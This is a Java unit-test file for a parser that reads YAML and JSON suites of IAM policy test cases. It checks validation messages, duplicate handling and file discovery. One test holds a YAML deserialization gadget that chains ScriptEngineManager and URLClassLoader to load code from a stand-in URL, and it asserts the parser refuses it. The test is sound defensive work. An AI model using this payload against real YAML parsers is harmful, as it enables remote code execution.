package io.mlgate.iam.testing;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PolicyTestSuiteReaderTest {

    static final String YAML = """
            policies: ../other-policies
            cases:
              - name: analyst over TLS
                principal: demo-analyst
                action: sagemaker:InvokeEndpoint
                resource: arn:aws:sagemaker:us-east-1:123456789012:endpoint/iris
                context:
                  aws:SecureTransport: true
                  aws:TagKeys: [team, 7]
                expect: Allow
            """;

    @TempDir
    Path dir;

    private static List<String> problems(ThrowingRead r) {
        try {
            r.run();
        } catch (PolicyTestSuiteException e) {
            return e.problems();
        }
        throw new AssertionError("expected a PolicyTestSuiteException");
    }

    interface ThrowingRead {
        void run() throws PolicyTestSuiteException;
    }

    @Test
    void readsYamlCasesWithContextScalarsAsText() throws Exception {
        Path file = dir.resolve("tests/a.yaml");
        PolicyTestSuite suite = PolicyTestSuiteReader.parse(YAML, file, true);
        assertThat(suite.policies()).contains(file.toAbsolutePath().getParent().resolve("../other-policies").normalize());
        assertThat(suite.cases()).hasSize(1);
        PolicyTestCase c = suite.cases().get(0);
        assertThat(c.name()).isEqualTo("analyst over TLS");
        assertThat(c.principal()).isEqualTo("demo-analyst");
        assertThat(c.expect()).isEqualTo(Expectation.ALLOW);
        assertThat(c.context()).containsEntry("aws:SecureTransport", List.of("true"))
                .containsEntry("aws:TagKeys", List.of("team", "7"));
    }

    @Test
    void readsJson() throws Exception {
        String json = "{\"cases\":[{\"name\":\"g\",\"principal\":\"demo-guest\",\"action\":\"s3:GetObject\","
                + "\"resource\":\"*\",\"expect\":\"Deny\"}]}";
        PolicyTestSuite suite = PolicyTestSuiteReader.parse(json, dir.resolve("g.json"), false);
        assertThat(suite.policies()).isEmpty();
        assertThat(suite.cases().get(0).expect()).isEqualTo(Expectation.DENY);
        assertThat(suite.cases().get(0).context()).isEmpty();
    }

    @Test
    void problemsNameTheFileAndTheCase() {
        String bad = YAML.replace("expect: Allow", "expect: Permit\n    colour: red");
        List<String> p = problems(() -> PolicyTestSuiteReader.parse(bad, Path.of("s.yaml"), true));
        assertThat(p).anyMatch(s -> s.startsWith("s.yaml: case 'analyst over TLS': 'expect' must be Allow"));
        assertThat(p).anyMatch(s -> s.startsWith("s.yaml: case 'analyst over TLS': unknown field 'colour'"));
    }

    @Test
    void missingFieldsAndNamesAreReportedByPosition() {
        String bad = "cases:\n  - principal: x\n    action: nocolon\n";
        List<String> p = problems(() -> PolicyTestSuiteReader.parse(bad, Path.of("s.yaml"), true));
        assertThat(p).contains("s.yaml: cases[0]: 'name' is required (non-empty text)",
                "s.yaml: cases[0]: 'resource' is required (non-empty text)",
                "s.yaml: cases[0]: 'expect' is required (non-empty text)");
        assertThat(p).anyMatch(s -> s.contains("'action' must have the form service:Action"));
    }

    @Test
    void duplicateCaseNamesAreRejected() {
        String twice = YAML + YAML.substring(YAML.indexOf("  - name"));
        List<String> p = problems(() -> PolicyTestSuiteReader.parse(twice, Path.of("s.yaml"), true));
        assertThat(p).containsExactly("s.yaml: case 'analyst over TLS': duplicate case name");
    }

    @Test
    void duplicateKeysAreRejectedInYamlAndJson() {
        List<String> y = problems(() -> PolicyTestSuiteReader.parse("cases: []\ncases: []\n", Path.of("d.yaml"), true));
        assertThat(y).singleElement().asString().startsWith("d.yaml:2:").contains("invalid YAML");
        List<String> j = problems(() -> PolicyTestSuiteReader.parse("{\"cases\":[],\"cases\":[]}", Path.of("d.json"), false));
        assertThat(j).singleElement().asString().startsWith("d.json:1:").contains("invalid JSON").contains("cases");
    }

    @Test
    void syntaxErrorsCarryLineAndColumn() {
        List<String> p = problems(() -> PolicyTestSuiteReader.parse("cases:\n  - name: [unclosed\n", Path.of("x.yaml"), true));
        assertThat(p).singleElement().asString().matches("x\\.yaml:\\d+:\\d+: invalid YAML: .*");
    }

    @Test
    void emptyOrCaselessSuitesAreInvalid() {
        assertThat(problems(() -> PolicyTestSuiteReader.parse("", Path.of("e.yaml"), true)))
                .containsExactly("e.yaml: empty suite: expected an object with 'cases'");
        assertThat(problems(() -> PolicyTestSuiteReader.parse("cases: []", Path.of("e.yaml"), true)))
                .containsExactly("e.yaml: 'cases' must be a non-empty list of cases");
        assertThat(problems(() -> PolicyTestSuiteReader.parse("- a\n- b\n", Path.of("e.yaml"), true)))
                .singleElement().asString().contains("must be an object");
    }

    @Test
    void yamlTagsForArbitraryTypesAreRefused() {
        String evil = "cases: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]";
        assertThat(problems(() -> PolicyTestSuiteReader.parse(evil, Path.of("evil.yaml"), true)))
                .singleElement().asString().startsWith("evil.yaml").contains("invalid YAML");
    }

    @Test
    void readAllFindsSuiteFilesRecursivelyInOrderAndSkipsOthers() throws Exception {
        Files.createDirectories(dir.resolve("sub"));
        Files.writeString(dir.resolve("b.yml"), YAML);
        Files.writeString(dir.resolve("sub/a.json"), "{\"cases\":[{\"name\":\"n\",\"principal\":\"p\",\"action\":\"a:b\",\"resource\":\"*\",\"expect\":\"Allow\"}]}");
        Files.writeString(dir.resolve("README.md"), "not a suite");
        Files.writeString(dir.resolve(".hidden.yaml"), "garbage: [");
        List<PolicyTestSuite> suites = PolicyTestSuiteReader.readAll(dir);
        assertThat(suites).extracting(s -> dir.relativize(s.file()).toString()).containsExactly("b.yml", "sub/a.json");
    }

    @Test
    void readAllReportsProblemsOfEveryFileAndRejectsEmptyFolders() throws Exception {
        assertThat(problems(() -> PolicyTestSuiteReader.readAll(dir))).singleElement().asString().contains("no test suite files");
        Files.writeString(dir.resolve("a.yaml"), "cases: 3");
        Files.writeString(dir.resolve("b.json"), "{");
        List<String> p = problems(() -> PolicyTestSuiteReader.readAll(dir));
        assertThat(p).hasSize(2);
        assertThat(p.get(0)).startsWith(dir.resolve("a.yaml").toString());
        assertThat(p.get(1)).startsWith(dir.resolve("b.json").toString());
        assertThat(problems(() -> PolicyTestSuiteReader.readAll(dir.resolve("missing")))).singleElement().asString().contains("no such file");
    }
}
